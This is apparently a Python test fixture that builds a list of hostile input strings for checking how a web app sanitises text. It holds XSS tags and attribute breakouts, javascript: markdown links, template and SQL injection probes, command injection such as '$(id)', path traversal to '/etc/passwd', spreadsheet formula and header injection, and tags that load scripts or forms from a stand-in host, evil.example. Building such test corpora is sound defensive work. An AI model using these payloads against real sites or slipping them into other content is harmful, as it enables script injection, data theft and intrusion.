"""Two hundred strings that nobody means well with: whatever runs of them sets ``__pwned`` or opens a dialog."""

from collections.abc import Iterator
from typing import Final

_RUN: Final = "window.__pwned=1"
_TAGS: Final = (
    "<script class=pwned>{}</script>",
    "<ScRiPt class=pwned>{}</sCrIpT>",
    '<script class=pwned src="https://evil.example/x.js"></script>',
    "<img class=pwned src=x onerror={}>",
    "<img class=pwned src=x onerror='{}'/>",
    '<img class="pwned" src="https://evil.example/pixel.png">',
    "<svg class=pwned onload={}>",
    "<svg class=pwned><script>{}</script></svg>",
    "<svg class=pwned><animate onbegin={} attributeName=x dur=1s>",
    "<math class=pwned><mtext><script>{}</script></mtext></math>",
    "<iframe class=pwned srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe class=pwned src=javascript:{}></iframe>",
    "<object class=pwned data=javascript:{}></object>",
    "<embed class=pwned src=javascript:{}>",
    "<details class=pwned open ontoggle={}>",
    "<video class=pwned><source onerror={}></video>",
    "<audio class=pwned src=x onerror={}>",
    "<input class=pwned autofocus onfocus={}>",
    "<select class=pwned autofocus onfocus={}>",
    "<textarea class=pwned autofocus onfocus={}>",
    "<body class=pwned onload={}>",
    "<marquee class=pwned onstart={}>",
    "<form class=pwned action=https://evil.example><button>Log in again</button></form>",
    "<a class=pwned href=javascript:{}>Click</a>",
    "<base class=pwned href=https://evil.example/>",
    "<link class=pwned rel=stylesheet href=https://evil.example/x.css>",
    "<meta class=pwned http-equiv=refresh content='0;url=https://evil.example'>",
    "<style class=pwned>body{{display:none}}</style>",
    "<div class=pwned style='position:fixed;inset:0;background:red'>",
    "<template class=pwned><script>{}</script></template>",
    "<dialog class=pwned open>Your session is over</dialog>",
    "<noscript><p class=pwned title='</noscript><img src=x onerror={}>'>",
)
_BREAKS: Final = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</template>",
)
_INSIDE: Final = (
    "<script class=pwned>window.__pwned=2</script>",
    "<img class=pwned src=x onerror=window.__pwned=2>",
    " onmouseover=window.__pwned=2 class=pwned ",
    " autofocus onfocus=window.__pwned=2 class=pwned ",
)
_MARKDOWN: Final = (
    "[click](javascript:window.__pwned=3)",
    "[click](JaVaScRiPt:window.__pwned=3)",
    "[click](java\tscript:window.__pwned=3)",
    "[click](data:text/html,<script>window.__pwned=3</script>)",
    "[click](vbscript:msgbox)",
    "![picture](https://evil.example/pixel.png)",
    "![picture](javascript:window.__pwned=3)",
    '[x](https://evil.example "onmouseover=window.__pwned=3")',
    "<javascript:window.__pwned=3>",
    "[ref]: javascript:window.__pwned=3",
    "``` <script class=pwned>window.__pwned=3</script>",
    "| <img class=pwned src=x onerror=window.__pwned=3> |",
    "# <svg class=pwned onload=window.__pwned=3>",
    "> > > > > > > > > > > > > > > > deep",
    "* * * * * * * * * * * * * * * * deep",
    "@everybody @ada.admin @<script>",
)
_TEMPLATES: Final = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in range(9) %}x{% endfor %}",
    "{{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.app}}",
    "${window.__pwned=4}",
    "%(name)s",
    "%s%s%s%s%n",
    "{0}{name}",
    "{n} files left",
    "$& $1 $` $'",
)
_SCRIPTS_OF_LANGUAGES: Final = (
    "\u202eRight to left override",
    "\u202d\u202eboth ways\u202c",
    "\u2066isolate without end",
    "\u2067\u2068nested isolates",
    "مرحبا بالعالم",
    "שלום עולם 123 abc",
    "abc שלום (def) ١٢٣",
    "ze\u200bro\u200cwi\u200ddth\ufeff",
    "\u00ad\u00adsoft\u00adhyphens\u00ad",
    "z\u0300\u0301\u0302\u0303\u0304a\u0305\u0306\u0307l\u0308\u0309g\u030a\u030bo" + "\u0348\u0311" * 30,
    "é vs é",
    "ﷺ﷽" * 6,
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "ｆｕｌｌｗｉｄｔｈ ＜script＞",
    "👩‍👩‍👧‍👦👨🏿‍🚒🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "🇩🇪🇫🇷🇯🇵🇺🇳",
    "👍" * 40,
    "漢字かなカナ한글" * 8,
    "ไทยไม่มีช่องว่าง" * 6,
    "İıſKÅ ẞß ŉ",
    "\u3000\u2003ideographic space\u2003\u3000",
    "․‥…⁄∕／",
    "ᚠᛇᚻ᛫ᛒᛦᚦ",
    "\u0600\u06dd\u070f\u08e2",
)
_SHAPES: Final = (
    "W" * 200,
    "i" * 200,
    "." * 200,
    "-" * 200,
    "_" * 200,
    "/" * 200,
    "\\" * 200,
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    "https://evil.example/" + "a" * 170,
    "a" * 60 + " " + "b" * 60,
    "x " * 99 + "x",
    "\u00a0".join(["no", "break"] * 15),
)
_VALUES: Final = (
    *("null", "undefined", "NaN", "None", "true", "false", "0", "-1", "1e309", "[object Object]", "[]", "{}"),
    *("__proto__", "constructor", "hasOwnProperty", "toString", "__class__", "innerHTML", "CON", "nul.txt"),
    *("' OR 1=1 --", "'; DROP TABLE tickets; --", '" OR ""="', "1; SELECT 1", "%' ESCAPE '", "a* NEAR b"),
    *(
        "../../etc/passwd",
        "..\\..\\windows",
        "%2e%2e%2f",
        "file:///etc/passwd",
        "C:\\x",
        "~root",
        "|id",
        "$(id)",
    ),
    *(
        "`id`",
        "&& id",
        "=1+1",
        "+1+1",
        "@SUM(1)",
        "-2+3",
        '=HYPERLINK("https://evil.example")',
        "\\u003cscript",
    ),
    *("&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "&nbsp;", "&copy", "&#x202e;", "&notanentity;"),
    *("expression(1)", "url(javascript:1)", "</style><b class=pwned>", "*{color:red}", "@import 'x'"),
    *("--", "<!--", "-->", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<>", "<", ">", "&", '"', "'"),
    *("%00", "\\0", "\\x00", "%0d%0aSet-Cookie: a=b", "\\r\\nX: y"),
)


def strings() -> Iterator[str]:
    yield from (tag.format(_RUN) for tag in _TAGS)
    yield from (broken + inside for broken in _BREAKS for inside in _INSIDE)
    yield from (*_MARKDOWN, *_TEMPLATES, *_SCRIPTS_OF_LANGUAGES, *_SHAPES, *_VALUES)


HOSTILE: Final = tuple(dict.fromkeys(strings()))


def packed(most: int) -> list[str]:
    """Return them all in as few texts as they fit into, one after the other."""
    texts = [""]
    for string in HOSTILE:
        joined = f"{texts[-1]} {string}".strip()
        if len(joined) <= most:
            texts[-1] = joined
        else:
            texts.append(string)
    return [text for text in texts if text]
